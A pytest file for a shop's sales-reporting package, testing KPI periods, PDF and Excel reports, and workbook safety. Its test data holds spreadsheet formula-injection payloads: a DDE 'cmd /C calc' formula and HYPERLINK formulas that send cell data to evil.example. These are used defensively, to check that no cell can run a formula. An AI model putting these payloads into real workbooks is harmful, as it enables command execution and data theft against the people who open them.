"""Reports on a warehouse built from the demo shop: periods, KPIs, the PDF (rendered to PNG
with pdftoppm) and the workbook (read back and compared with the marts)."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from datetime import date, datetime, timedelta, timezone
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path

import duckdb
import matplotlib.image
import openpyxl
import pytest

from salesflow import marts
from salesflow.expenses import build_expense_marts
from salesflow.reports import (DEFAULT_KEEP_DAYS, first_page_png, keep_days_from_env,
                               kpi_markdown, load_report, preview_markdown, prune_reports,
                               render_pages_png, report_message, report_period, write_report)
from salesflow.reports.content import comparison_spans
from salesflow.reports.excel import SHEETS
from salesflow.settings import ShopSettings
from salesflow.warehouse import ensure_schema
from tests.conftest import SHOP_END, SHOP_START

AS_OF = SHOP_END  # 2025-06-30, a Monday
AS_OF_DAYS = 14  # as-of marts are built for the last 14 days
SETTINGS = ShopSettings(shop_name="Müller & Söhne <Épicerie>", currency="EUR")
NOW = datetime(2025, 7, 1, 6, 0, tzinfo=timezone.utc)
D = Decimal

needs_pdftoppm = pytest.mark.skipif(
    shutil.which("pdftoppm") is None or shutil.which("pdftotext") is None,
    reason="pdftoppm/pdftotext missing: install poppler-utils to render the PDF pages")


# -- the fixture warehouse -------------------------------------------------------------------
def load_demo(con: duckdb.DuckDBPyConnection, shop) -> None:
    """The demo shop's catalogue, inventory and sales as the extract layer stores them."""
    loaded = datetime(2025, 7, 1, 0, 30)
    products = shop.products.copy()
    products["id"] = range(1, len(products) + 1)
    sales = shop.sales.copy()
    sales["sid"] = sales["sale_id"].str[1:].astype("int64")
    sales["pos"] = range(len(sales))
    con.register("demo_products", products)
    con.register("demo_sales", sales)
    con.execute("""INSERT INTO raw.products
        SELECT id, sku, name, CAST(price AS DECIMAL(18,2)), stock_quantity, low_stock_threshold,
               NULL, ? FROM demo_products""", [loaded])
    con.execute("""INSERT INTO raw.inventory
        SELECT sku, name, coalesce(category, 'Uncategorized'), CAST(coalesce(cost, 0) AS DECIMAL(18,2)),
               CAST(price AS DECIMAL(18,2)), stock_quantity, ?, ? FROM demo_products""", [loaded, loaded])
    con.execute("""INSERT INTO raw.sale_items
        SELECT s.sid, CAST(row_number() OVER (PARTITION BY s.sid ORDER BY s.pos) AS INTEGER), p.id,
               s.sku, p.name, s.quantity, CAST(s.unit_price AS DECIMAL(18,2)),
               CAST(s.unit_price AS DECIMAL(18,2)) * s.quantity
        FROM demo_sales s LEFT JOIN demo_products p ON p.sku = s.sku""")
    con.execute("""INSERT INTO raw.sales
        SELECT sid, min(sale_ts), CAST(min(sale_ts) AS DATE),
               sum(CAST(unit_price AS DECIMAL(18,2)) * quantity), any_value(customer_id), ?
        FROM demo_sales GROUP BY sid""", [loaded])
    con.unregister("demo_products")
    con.unregister("demo_sales")


def rebuild_as_of(con, first: date, last: date) -> None:
    day = first
    while day <= last:
        marts.build_as_of(con, day)
        day += timedelta(days=1)


@pytest.fixture(scope="session")
def shop_template(tmp_path_factory, small_shop) -> Path:
    path = tmp_path_factory.mktemp("reports-warehouse") / "template.duckdb"
    con = duckdb.connect(str(path))
    try:
        ensure_schema(con)
        load_demo(con, small_shop)
        marts.build_daily(con, SHOP_START, SHOP_END)
        rebuild_as_of(con, AS_OF - timedelta(days=AS_OF_DAYS - 1), AS_OF)
        build_expense_marts(con, AS_OF)
    finally:
        con.close()
    return path


@pytest.fixture
def warehouse(tmp_path, shop_template) -> Path:
    path = tmp_path / "warehouse.duckdb"
    shutil.copy(shop_template, path)
    return path


@pytest.fixture
def con(warehouse):
    c = duckdb.connect(str(warehouse))
    try:
        yield c
    finally:
        c.close()


def add_forecast(con, made: date = AS_OF, days: int = 14, model: str = "ets") -> None:
    con.executemany(
        "INSERT INTO ml.sales_forecast (as_of, series_id, ds, yhat, yhat_lo_80, yhat_hi_80, yhat_lo_95, yhat_hi_95, model) VALUES (?, 'TOTAL', ?, ?, ?, ?, ?, ?, ?)",
        [(made, made + timedelta(days=i), 130.0 + i, 100.0 + i, 160.0 + i, 85.0 + i, 180.0 + i, model)
         for i in range(1, days + 1)])


ANOMALIES = [  # as_of, series, ds, observed, expected, lower, upper, score, direction, severity, kind, note
    (AS_OF, "TOTAL", date(2025, 6, 28), 40.0, 130.0, 95.0, 165.0, -4.2, "down", "high", "drop", "orders fell"),
    (AS_OF, "SNK-00002", date(2025, 6, 27), 30.0, 6.0, 2.0, 10.0, 5.1, "up", "medium", "spike", None),
    (AS_OF, "TOTAL", date(2025, 6, 11), 500.0, 140.0, 100.0, 180.0, 8.3, "up", "critical", "spike", "festival"),
]


def add_anomalies(con, rows=ANOMALIES) -> None:
    con.executemany("INSERT INTO ml.sales_anomalies VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", rows)


EXPENSES = [("E1", date(2025, 6, 1), "Rent", D("1200.00")), ("E2", date(2025, 6, 10), "Utilities", D("150.50")),
            ("E3", date(2025, 5, 1), "Rent", D("1200.00")), ("E4", date(2025, 6, 12), "=cmd|' /C calc'!A0", D("9.99"))]


def add_expenses(con) -> None:
    con.executemany("INSERT INTO raw.expenses VALUES (?, ?, ?, ?, 'x', 'vendor', 'f.xlsx', ?)",
                    [(*e, datetime(2025, 6, 20)) for e in EXPENSES])
    build_expense_marts(con, AS_OF)


def half_up(num, den, times=1) -> Decimal | None:
    if not den:
        return None
    return (D(num) * times / D(den)).quantize(D("0.01"), rounding=ROUND_HALF_UP)


# -- periods and KPIs ------------------------------------------------------------------------
def test_report_periods():
    # a Saturday is compared with the Saturday before, not with Friday
    p = report_period("daily", date(2025, 3, 1))
    assert (p.start, p.end, p.prev_start, p.prev_end) == (date(2025, 3, 1),) * 2 + (date(2025, 2, 22),) * 2
    assert p.prev_start.isoweekday() == p.start.isoweekday() == 6
    assert [s[0] for s in comparison_spans(p)] == ["Same weekday last week"]
    assert comparison_spans(p)[0][1] == "Saturday 22 February 2025"  # how a sentence names it
    p = report_period("weekly", date(2025, 6, 29))  # a Sunday: the ISO week Mon 23 - Sun 29
    assert (p.start, p.end, p.prev_start, p.prev_end) == (
        date(2025, 6, 23), date(2025, 6, 29), date(2025, 6, 16), date(2025, 6, 22))
    assert p.start.isoweekday() == 1 and p.days == 7
    # a year ago: the same ISO week, same weekdays (Mon 24 - Sun 30 June 2024)
    assert [(s[0], s[2], s[3]) for s in comparison_spans(p)] == [
        ("Previous week", date(2025, 6, 16), date(2025, 6, 22)),
        ("Same week last year", date(2024, 6, 24), date(2024, 6, 30))]
    p = report_period("monthly", date(2025, 4, 30))  # a whole month against the whole March
    assert (p.start, p.end, p.prev_start, p.prev_end) == (
        date(2025, 4, 1), date(2025, 4, 30), date(2025, 3, 1), date(2025, 3, 31))
    assert p.label == "April 2025" and p.prev_label == "March 2025"
    assert comparison_spans(p)[1][::2] == ("Same month last year", date(2024, 4, 1))
    assert comparison_spans(p)[1][3] == date(2024, 4, 30)
    p = report_period("monthly", date(2025, 3, 30))  # month to date against the same span
    assert (p.start, p.end, p.prev_start, p.prev_end) == (
        date(2025, 3, 1), date(2025, 3, 30), date(2025, 2, 1), date(2025, 2, 28))
    assert (p.year_start, p.year_end) == (date(2024, 3, 1), date(2024, 3, 30))
    p = report_period("monthly", date(2024, 3, 15))
    assert (p.prev_start, p.prev_end) == (date(2024, 2, 1), date(2024, 2, 15))
    p = report_period("monthly", date(2024, 2, 29))  # a whole leap February against a whole one
    assert (p.year_start, p.year_end) == (date(2023, 2, 1), date(2023, 2, 28))
    with pytest.raises(ValueError, match="hourly"):
        report_period("hourly", AS_OF)


def test_kpis_equal_sums_of_daily_sales_and_the_kpi_mart(con):
    report = load_report(con, "weekly", AS_OF, SETTINGS, now=NOW)

    def sums(start, end):
        return con.execute("SELECT sum(revenue), sum(orders), sum(units), sum(gross_profit), "
                           "sum(revenue_with_cost) FROM marts.daily_sales WHERE sale_date BETWEEN ? AND ?",
                           [start, end]).fetchone()

    rev, orders, units, gp, rwc = sums(AS_OF - timedelta(days=6), AS_OF)
    p_rev, p_orders, p_units, p_gp, p_rwc = sums(AS_OF - timedelta(days=13), AS_OF - timedelta(days=7))
    k = {x.key: x for x in report.kpis}
    assert (k["revenue"].current, k["orders"].current, k["units"].current) == (rev, orders, units)
    assert (k["revenue"].previous, k["orders"].previous) == (p_rev, p_orders)
    assert k["revenue"].change == rev - p_rev
    assert k["revenue"].growth_pct == half_up(rev - p_rev, p_rev, 100)
    assert k["orders"].growth_pct == half_up(orders - p_orders, p_orders, 100)
    assert k["avg_order_value"].current == half_up(rev, orders)
    assert k["gross_margin_pct"].current == half_up(gp, rwc, 100)
    assert k["gross_margin_pct"].growth_pct is None
    assert k["gross_margin_pct"].change == half_up(gp, rwc, 100) - half_up(p_gp, p_rwc, 100)
    mart = con.execute("""SELECT revenue, orders, units, avg_order_value, gross_margin_pct,
                                 revenue_growth_pct, gross_profit, cost_coverage_pct
                          FROM marts.kpis WHERE as_of = ? AND "window" = '7d'""", [AS_OF]).fetchone()
    assert mart == (k["revenue"].current, k["orders"].current, k["units"].current,
                    k["avg_order_value"].current, k["gross_margin_pct"].current,
                    k["revenue"].growth_pct, k["gross_profit"].current, k["cost_coverage_pct"].current)
    monthly = load_report(con, "monthly", AS_OF, SETTINGS, now=NOW)
    mtd = con.execute("""SELECT revenue, orders, units FROM marts.kpis
                         WHERE as_of = ? AND "window" = 'mtd'""", [AS_OF]).fetchone()
    assert (monthly.kpi("revenue").current, monthly.kpi("orders").current,
            monthly.kpi("units").current) == mtd
    assert monthly.kpi("revenue").previous == sums(date(2025, 5, 1), date(2025, 5, 31))[0]


def test_a_day_without_sales_and_gaps_in_the_marts(con):
    day = AS_OF - timedelta(days=3)
    con.execute("DELETE FROM marts.daily_sales WHERE sale_date = ?", [day - timedelta(days=7)])
    report = load_report(con, "daily", day, SETTINGS, now=NOW)
    assert report.kpi("revenue").previous is None and report.kpi("revenue").growth_pct is None
    assert not report.comparisons[0].available
    assert any("comparison period" in n for n in report.notes)


def test_daily_report_compares_with_the_same_weekday_last_week(con):
    report = load_report(con, "daily", AS_OF, SETTINGS, now=NOW)  # Monday 30 June
    week_ago = AS_OF - timedelta(days=7)
    rev, orders = con.execute("SELECT revenue, orders FROM marts.daily_sales WHERE sale_date = ?",
                              [week_ago]).fetchone()
    main = report.comparisons[0]
    assert (main.label, main.start, main.end) == ("Same weekday last week", week_ago, week_ago)
    assert report.kpi("revenue").previous == main.kpi("revenue").value == rev
    assert report.kpi("orders").previous == orders
    assert len(report.comparisons) == 1 and report.customers is None


def test_weekly_and_monthly_reports_compare_with_a_year_ago_where_it_exists(con):
    weekly = load_report(con, "weekly", AS_OF, SETTINGS, now=NOW)
    assert [c.label for c in weekly.comparisons] == ["Previous week", "Same week last year"]
    year = weekly.comparisons[1]
    assert (year.start, year.end) == (AS_OF - timedelta(days=370), AS_OF - timedelta(days=364))
    # the demo shop starts in January 2025: nothing a year ago, so n/a rather than -100 %
    assert not year.available and year.kpi("revenue").value is None
    assert year.kpi("revenue").growth_pct is None
    # a year of history moved back: the same week last year now has figures
    con.execute("INSERT INTO marts.daily_sales SELECT * REPLACE (sale_date - INTERVAL 364 DAY "
                "AS sale_date, revenue * 2 AS revenue) FROM marts.daily_sales "
                "WHERE sale_date BETWEEN ? AND ?", [AS_OF - timedelta(days=6), AS_OF])
    weekly = load_report(con, "weekly", AS_OF, SETTINGS, now=NOW)
    year = weekly.comparisons[1]
    assert year.available and year.days == 7
    assert year.kpi("revenue").value == 2 * weekly.kpi("revenue").current
    assert year.kpi("revenue").growth_pct == D("-50.00")
    monthly = load_report(con, "monthly", AS_OF, SETTINGS, now=NOW)
    assert [(c.label, c.start, c.end) for c in monthly.comparisons] == [
        ("Previous month", date(2025, 5, 1), date(2025, 5, 31)),
        ("Same month last year", date(2024, 6, 1), date(2024, 6, 30))]


# -- files -----------------------------------------------------------------------------------
def nonwhite_share(png: Path) -> float:
    pixels = matplotlib.image.imread(str(png))[..., :3]
    return float((pixels.min(axis=2) < 0.9).mean())


def pdf_pages_text(pdf: Path) -> list[str]:
    out = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True,
                         text=True).stdout
    return out.split("\f")[:-1] if out.endswith("\f") else out.split("\f")


@needs_pdftoppm
def test_every_kind_writes_a_pdf_whose_pages_are_not_blank(con, tmp_path):
    add_forecast(con)
    add_anomalies(con)
    add_expenses(con)
    root = tmp_path / "exports" / "reports"
    for kind in ("daily", "weekly", "monthly"):
        files = write_report(con, kind, AS_OF, root, SETTINGS, now=NOW)
        assert files.pdf == root / kind / "2025-06-30" / f"salesflow-{kind}-2025-06-30.pdf"
        assert files.xlsx == files.pdf.with_suffix(".xlsx")
        assert files.pdf.read_bytes().startswith(b"%PDF")
        pages = render_pages_png(files.pdf, tmp_path / "png" / kind, dpi=40)
        assert len(pages) >= 3, kind
        for page in pages:
            assert nonwhite_share(page) > 0.01, (kind, page.name)
        texts = pdf_pages_text(files.pdf)
        assert len(texts) == len(pages)
        for i, text in enumerate(texts, start=1):
            assert f"Page {i} of {len(pages)}" in text
        assert "Müller & Söhne <Épicerie>" in texts[0]
        assert files.report.period.label in texts[0]
        whole = "\n".join(texts)
        for heading in ("Key figures", "Revenue trend", "Top products", "Stock alerts", "Anomalies",
                        "Expenses and net profit"):
            assert heading in whole, (kind, heading)
        if kind == "daily":  # the anomalies are on earlier days
            assert "No anomalies detected in this period." in whole
        else:
            assert "orders fell" in whole
    assert sorted(p.name for p in (root / "weekly" / "2025-06-30").iterdir()) == [
        "salesflow-weekly-2025-06-30.pdf", "salesflow-weekly-2025-06-30.xlsx"]
    png = first_page_png(root / "daily" / "2025-06-30" / "salesflow-daily-2025-06-30.pdf", width_px=400)
    assert png.startswith(b"\x89PNG")
    preview = tmp_path / "preview.png"
    preview.write_bytes(png)
    assert matplotlib.image.imread(str(preview)).shape[1] == 400
    assert nonwhite_share(preview) > 0.01
    md = preview_markdown(files)
    assert md.startswith("![First page of salesflow-monthly-2025-06-30.pdf](data:image/png;base64,iVBORw0KGgo")
    assert "| Revenue |" in md


BIG_CATALOGUE = 4000
# as long as the notes the anomaly scoring writes
LONG_NOTE = ("No sales of BIG-%05d for 14 open days so far (since Tue 17 Jun 2025, last Mon 30 Jun "
             "2025), where 37.9 units were expected (about 2.7 units a day): out of stock or delisted?")


def grow_catalogue(con, n: int = BIG_CATALOGUE, anomalies: int = 1500) -> int:
    """The day's stock status of a shop of ``n`` products, most of them low or out of stock (as
    a first run on a real catalogue finds them), and ``anomalies`` anomalies in the last week.
    Returns the number of stock alerts. One product sells far more money a day than the rest."""
    con.execute("DELETE FROM marts.stock_status WHERE as_of = ?", [AS_OF])
    con.execute("""
        INSERT INTO marts.stock_status (as_of, sku, product_name, stock_quantity, low_stock_threshold,
                                        avg_daily_units_28d, days_of_cover, status, severity, reorder_qty)
        SELECT ?, printf('BIG-%05d', i), printf('Big catalogue product number %d in a long range', i),
               CASE WHEN i % 3 = 0 THEN 0 ELSE 2 END, 5, 0.5 + (i % 17) / 10,
               CASE WHEN i % 3 = 0 THEN 0 ELSE 2.5 END,
               CASE WHEN i % 3 = 0 THEN 'OUT_OF_STOCK' WHEN i % 3 = 1 THEN 'LOW' ELSE 'OK' END,
               CASE WHEN i % 3 = 0 THEN 'critical' WHEN i % 3 = 1 THEN 'high' ELSE 'none' END, 10
        FROM range(1, ? + 1) t(i)""", [AS_OF, n])
    con.execute("""INSERT INTO raw.products (id, sku, name, price, stock_quantity, low_stock_threshold)
                   SELECT 100000 + i, printf('BIG-%05d', i), 'x', CASE WHEN i = 2997 THEN 900 ELSE 3 END, 0, 5
                   FROM range(1, ? + 1) t(i)""", [n])
    add_anomalies(con, [(AS_OF, f"BIG-{i:05d}", AS_OF - timedelta(days=i % 7), 10.0 + i, 5.0, 2.0, 8.0,
                         3.0 + i / 1000, "up", ("high", "medium", "low")[i % 3], "spike", LONG_NOTE % i)
                        for i in range(1, anomalies + 1)])
    return con.execute("SELECT count(*) FROM marts.stock_status WHERE as_of = ? AND status <> 'OK'",
                       [AS_OF]).fetchone()[0]


@needs_pdftoppm
def test_a_catalogue_of_4000_products_keeps_the_pdf_short_and_the_workbook_whole(con, tmp_path):
    alerts = grow_catalogue(con)
    assert alerts > 2600
    for kind in ("daily", "weekly", "monthly"):
        files = write_report(con, kind, AS_OF, tmp_path, SETTINGS, now=NOW)
        texts = pdf_pages_text(files.pdf)
        assert len(texts) <= 6, (kind, len(texts))
        whole = "\n".join(texts)
        # the PDF shows the most urgent few and says how many more the workbook holds
        assert len(set(re.findall(r"BIG-\d{5}", whole))) <= 2 * 15 + 1, kind
        assert f"and {alerts - 15:,} more products needing attention" in whole, kind
        # most severe first, and among them the product that sells the most money a day
        stock_page = next(t for t in texts if "Stock alerts" in t and "BIG-" in t)
        assert re.findall(r"BIG-\d{5}", stock_page.split("Stock alerts", 1)[1])[0] == "BIG-02997"
        wb = openpyxl.load_workbook(files.xlsx, read_only=True)
        _, stock_rows = read_sheet(wb["Stock alerts"])
        assert len(stock_rows) == alerts and stock_rows[0][2] == "BIG-02997"
        assert stock_rows[0][9] == D("900") * (D("0.5") + D(2997 % 17) / 10)  # units a day x price
        _, anomaly_rows = read_sheet(wb["Anomalies"])
        in_period = 1500 if kind != "daily" else len(range(7, 1501, 7))
        assert len(anomaly_rows) == in_period, kind
        if kind != "daily":
            assert f"and {in_period - 15:,} more anomalies" in whole
        wb.close()


def read_sheet(ws) -> tuple[list, list[list]]:
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    return rows[0], [r for r in rows[1:] if any(v is not None for v in r)]


def as_decimal(value, places="0.01") -> Decimal:
    return D(str(value)).quantize(D(places), rounding=ROUND_HALF_UP)


def test_workbook_values_equal_the_marts(con, tmp_path):
    add_forecast(con)
    add_anomalies(con)
    add_expenses(con)
    files = write_report(con, "weekly", AS_OF, tmp_path, SETTINGS, now=NOW)
    wb = openpyxl.load_workbook(files.xlsx)
    assert wb.sheetnames == list(SHEETS)
    for ws in wb:
        assert ws.freeze_panes == "A2", ws.title
        header = [c.value for c in ws[1]]
        assert header[0] and all(isinstance(h, str) for h in header if h is not None)

    # summary: the KPI values, growth as a fraction
    _, kpi_rows = read_sheet(wb["Summary"])
    by_label = {r[0]: r for r in kpi_rows}
    mart = con.execute("""SELECT revenue, orders, units, revenue_growth_pct FROM marts.kpis
                          WHERE as_of = ? AND "window" = '7d'""", [AS_OF]).fetchone()
    assert as_decimal(by_label["Revenue (EUR)"][1]) == mart[0]
    assert by_label["Orders"][1] == mart[1] and by_label["Units sold"][1] == mart[2]
    assert as_decimal(by_label["Revenue (EUR)"][4] * 100) == mart[3]
    assert wb["Summary"]["B2"].number_format == "#,##0.00"

    # revenue trend: every day of the 8 weeks, then the forecast
    header, rows = read_sheet(wb["Revenue trend"])
    daily = con.execute("SELECT sale_date, revenue, orders, units FROM marts.daily_sales "
                        "WHERE sale_date BETWEEN ? AND ? ORDER BY 1", [AS_OF - timedelta(days=55), AS_OF]).fetchall()
    actual = [(r[0].date(), as_decimal(r[1]), r[2], r[3]) for r in rows if r[1] is not None]
    assert actual == [(d, rev, o, u) for d, rev, o, u in daily]
    forecast = [(r[0].date(), r[4], r[5], r[8]) for r in rows if r[4] is not None]
    assert forecast == [(AS_OF + timedelta(days=i), 130.0 + i, 100.0 + i, 180.0 + i) for i in range(1, 15)]
    assert wb["Revenue trend"]["A2"].number_format == "yyyy-mm-dd"
    assert wb["Revenue trend"]["A2"].is_date

    # top products: the 7-day window of marts.top_products
    _, rows = read_sheet(wb["Top products"])
    top = con.execute("""SELECT rank, sku, product_name, revenue, units, revenue_share FROM marts.top_products
                         WHERE as_of = ? AND "window" = '7d' ORDER BY rank""", [AS_OF]).fetchall()
    assert [(r[0], r[1], r[2], as_decimal(r[3]), r[4], as_decimal(r[5] * 100)) for r in rows] == top
    assert wb["Top products"]["F2"].number_format == "0.00%"

    # stock alerts: the day's alerting rows, most severe first
    _, rows = read_sheet(wb["Stock alerts"])
    stock = con.execute("""SELECT severity, status, sku, product_name, stock_quantity, low_stock_threshold,
                                  avg_daily_units_28d, days_of_cover, reorder_qty
                           FROM marts.stock_status WHERE as_of = ?
                             AND (status IN ('OUT_OF_STOCK', 'LOW') OR severity <> 'none')""", [AS_OF]).fetchall()
    assert stock, "the demo shop has stock alerts on its last day"
    got = [(r[0], r[1], r[2], r[3], r[4], r[5], as_decimal(r[6], "0.001"),
            None if r[7] is None else as_decimal(r[7], "0.1"), r[8]) for r in rows]
    assert sorted(got, key=lambda r: r[2]) == sorted(stock, key=lambda r: r[2])
    ranks = {"critical": 0, "high": 1, "medium": 2, "low": 3}
    assert [ranks[r[0]] for r in got] == sorted(ranks[r[0]] for r in got)

    # anomalies of the period (the one of 11 June is outside the week)
    _, rows = read_sheet(wb["Anomalies"])
    assert [(r[0].date(), r[1], r[3], r[4], r[5], r[6], r[7]) for r in rows] == [
        (date(2025, 6, 28), "TOTAL", "high", 40, 130, 95, 165),
        (date(2025, 6, 27), "SNK-00002", "medium", 30, 6, 2, 10)]

    # expenses of June and net profit of April - June
    _, rows = read_sheet(wb["Expenses"])
    exp = con.execute("SELECT month, category, amount, share_pct FROM marts.expenses_monthly "
                      "WHERE month = '2025-06-01' ORDER BY amount DESC, category").fetchall()
    assert [(r[0].date(), r[1], as_decimal(r[2]), as_decimal(r[3] * 100)) for r in rows] == exp
    _, rows = read_sheet(wb["Net profit"])
    profit = con.execute("SELECT month, revenue, gross_profit, expenses, net_profit FROM marts.profit_monthly "
                         "WHERE month BETWEEN '2025-04-01' AND '2025-06-01' ORDER BY month").fetchall()
    assert [(r[0].date(), *(as_decimal(v) for v in r[1:5])) for r in rows] == profit
    assert wb["Net profit"]["E2"].number_format == "#,##0.00"

    for title, n_charts in (("Revenue trend", 1), ("Top products", 1), ("Expenses", 1), ("Net profit", 1)):
        assert len(wb[title]._charts) == n_charts, title
    with zipfile.ZipFile(files.xlsx) as z:
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 4
        assert b"<lineChart>" in z.read("xl/charts/chart1.xml")
    widths = wb["Top products"].column_dimensions
    longest = max(len(r[2]) for r in top)
    assert widths["C"].width >= min(60, longest) and widths["A"].width < 20


MALICIOUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+2", "-2+3", "\t=1+1", "\r=1+1", "  =1+1"]


def test_the_reorder_column_is_the_reorder_lists_when_the_day_has_one(con):
    """The report and the digest's reorder workbook give one quantity to order: the reorder
    list's (from the forecast); without a list for the day, the stock mart's."""
    from salesflow.reorder import ensure_reorder
    from salesflow.reports.content import load_stock, report_period

    period = report_period("daily", AS_OF)
    table, _ = load_stock(con, period)
    by_sku = {r["sku"]: r["reorder_qty"] for r in table.records()}
    mart = dict(con.execute("SELECT sku, reorder_qty FROM marts.stock_status WHERE as_of = ?",
                            [AS_OF]).fetchall())
    assert len(by_sku) >= 2 and all(by_sku[k] == mart[k] for k in by_sku)

    listed, unlisted = sorted(by_sku)[:2]
    ensure_reorder(con)
    con.execute("INSERT INTO marts.reorder_suggestions (as_of, sku, suggested_qty) VALUES (?, ?, 37)",
                [AS_OF, listed])
    table, _ = load_stock(con, period)
    by_sku = {r["sku"]: r["reorder_qty"] for r in table.records()}
    assert by_sku[listed] == 37 and by_sku[unlisted] == 0


def test_no_cell_of_the_workbook_can_run_a_formula(con, tmp_path):
    skus = [r[0] for r in con.execute("SELECT DISTINCT sku FROM marts.stock_status WHERE as_of = ? "
                                      "AND status IN ('LOW', 'OUT_OF_STOCK') ORDER BY sku", [AS_OF]).fetchall()]
    top = [r[0] for r in con.execute("""SELECT sku FROM marts.top_products WHERE as_of = ?
                                        AND "window" = '7d' ORDER BY rank""", [AS_OF]).fetchall()]
    for i, sku in enumerate(skus + top):
        name = MALICIOUS[i % len(MALICIOUS)]
        con.execute("UPDATE marts.stock_status SET product_name = ? WHERE sku = ?", [name, sku])
        con.execute("UPDATE marts.top_products SET product_name = ? WHERE sku = ?", [name, sku])
    add_expenses(con)
    add_anomalies(con, [(AS_OF, "=1+2", AS_OF, 1.0, 2.0, 1.5, 2.5, -3.0, "down", "high", "@x", "-note")])
    bad_shop = ShopSettings(shop_name="=HYPERLINK(\"http://evil.example\")")
    files = write_report(con, "weekly", AS_OF, tmp_path, bad_shop, now=NOW)
    wb = openpyxl.load_workbook(files.xlsx)
    seen = set()
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen.add(cell.value)
    assert set(MALICIOUS) <= seen
    assert {"=1+2", "@x", "-note", "=cmd|' /C calc'!A0", bad_shop.shop_name} <= seen
    with zipfile.ZipFile(files.xlsx) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<f[ >]", z.read(name)), name


@needs_pdftoppm
def test_reports_render_with_empty_ml_tables_and_no_expenses(con, tmp_path):
    assert con.execute("SELECT count(*) FROM ml.sales_forecast").fetchone()[0] == 0
    assert con.execute("SELECT count(*) FROM raw.expenses").fetchone()[0] == 0
    for kind in ("daily", "weekly", "monthly"):
        files = write_report(con, kind, AS_OF, tmp_path, SETTINGS, now=NOW)
        assert files.report.forecast.rows == [] and files.report.anomalies.rows == []
        assert not files.report.has_expenses
        for page in render_pages_png(files.pdf, tmp_path / "png" / kind, dpi=30):
            assert nonwhite_share(page) > 0.01
        wb = openpyxl.load_workbook(files.xlsx)
        assert wb.sheetnames == list(SHEETS)
        for title in ("Anomalies", "Expenses", "Net profit"):
            header, rows = read_sheet(wb[title])
            assert header[0] and rows == [], (kind, title)
        notes = [r[1] for r in wb["Summary"].iter_rows(values_only=True) if r[0] == "Note"]
        assert any("No anomalies" in n for n in notes) and any("No expenses" in n for n in notes)
        assert any("forecast" in n.lower() for n in notes)
    text = "\n".join(pdf_pages_text(files.pdf))
    assert "No expenses have been imported yet" in text


def test_undefined_model_values_become_empty_cells(con, tmp_path):
    con.execute("INSERT INTO ml.sales_forecast (as_of, series_id, ds, yhat, yhat_lo_80, yhat_hi_80, yhat_lo_95, yhat_hi_95, model) VALUES (?, 'TOTAL', ?, 120.0, 'NaN', 'NaN', '-inf', 'inf', 'naive')",
                [AS_OF, AS_OF + timedelta(days=1)])
    add_anomalies(con, [(AS_OF, "TOTAL", AS_OF, 1.0, 2.0, float("nan"), float("nan"), float("nan"),
                         "down", "high", "drop", None)])
    files = write_report(con, "daily", AS_OF, tmp_path, SETTINGS, now=NOW)
    wb = openpyxl.load_workbook(files.xlsx)
    _, rows = read_sheet(wb["Revenue trend"])
    assert rows[-1][0].date() == AS_OF + timedelta(days=1) and rows[-1][4:] == [120, None, None, None, None]
    _, rows = read_sheet(wb["Anomalies"])
    assert rows[0][4:9] == [1, 2, None, None, None]


def test_a_day_before_any_mart_renders_an_empty_report(tmp_path):
    con = duckdb.connect(str(tmp_path / "empty.duckdb"))
    try:
        ensure_schema(con)
        files = write_report(con, "monthly", date(2025, 1, 31), tmp_path / "r", SETTINGS, now=NOW)
    finally:
        con.close()
    assert files.report.kpi("revenue").current == 0
    assert files.pdf.stat().st_size > 1000 and files.xlsx.stat().st_size > 1000
    assert any("lacks 31 day" in n for n in files.report.notes)


def test_rewriting_a_report_replaces_its_files_atomically(con, tmp_path):
    first = write_report(con, "daily", AS_OF, tmp_path, SETTINGS, now=NOW)
    before = first.xlsx.read_bytes()
    add_anomalies(con, [(AS_OF, "TOTAL", AS_OF, 1.0, 2.0, 1.5, 2.5, -3.0, "down", "high", "drop", None)])
    second = write_report(con, "daily", AS_OF, tmp_path, SETTINGS, now=NOW)
    assert (second.pdf, second.xlsx) == (first.pdf, first.xlsx)
    assert second.xlsx.read_bytes() != before
    assert sorted(p.name for p in first.folder.iterdir()) == [first.pdf.name, first.xlsx.name]


def test_prune_reports_keeps_the_configured_days(tmp_path):
    root = tmp_path / "reports"
    for kind, day in (("daily", "2025-06-30"), ("daily", "2025-04-01"), ("daily", "2025-03-31"),
                      ("weekly", "2025-01-05"), ("monthly", "2025-05-31")):
        folder = root / kind / day
        folder.mkdir(parents=True)
        (folder / f"salesflow-{kind}-{day}.pdf").write_bytes(b"%PDF")
    (root / "daily" / "notes").mkdir()
    (root / "daily" / "2025-01-01.txt").write_text("not a report folder")
    removed = prune_reports(root, keep_days=90, today=date(2025, 6, 30))
    assert sorted(p.relative_to(root).as_posix() for p in removed) == ["daily/2025-03-31", "weekly/2025-01-05"]
    assert sorted(p.name for p in (root / "daily").iterdir()) == ["2025-01-01.txt", "2025-04-01", "2025-06-30",
                                                                  "notes"]
    assert (root / "monthly" / "2025-05-31").is_dir()
    assert prune_reports(root, keep_days=90, today=date(2025, 6, 30)) == []
    with pytest.raises(ValueError):
        prune_reports(root, keep_days=0, today=date(2025, 6, 30))
    assert keep_days_from_env({}) == DEFAULT_KEEP_DAYS
    assert keep_days_from_env({"SALESFLOW_REPORTS_KEEP_DAYS": " 30 "}) == 30
    for bad in ("0", "thirty"):
        with pytest.raises(ValueError, match="SALESFLOW_REPORTS_KEEP_DAYS"):
            keep_days_from_env({"SALESFLOW_REPORTS_KEEP_DAYS": bad})


def test_kpi_markdown_and_report_email(con, tmp_path):
    files = write_report(con, "weekly", AS_OF, tmp_path, SETTINGS, now=NOW)
    md = kpi_markdown(files.report)
    assert "| Revenue |" in md and "| Figure | This period |" in md
    assert "&lt;Épicerie&gt;" in md and "<Épicerie>" not in md
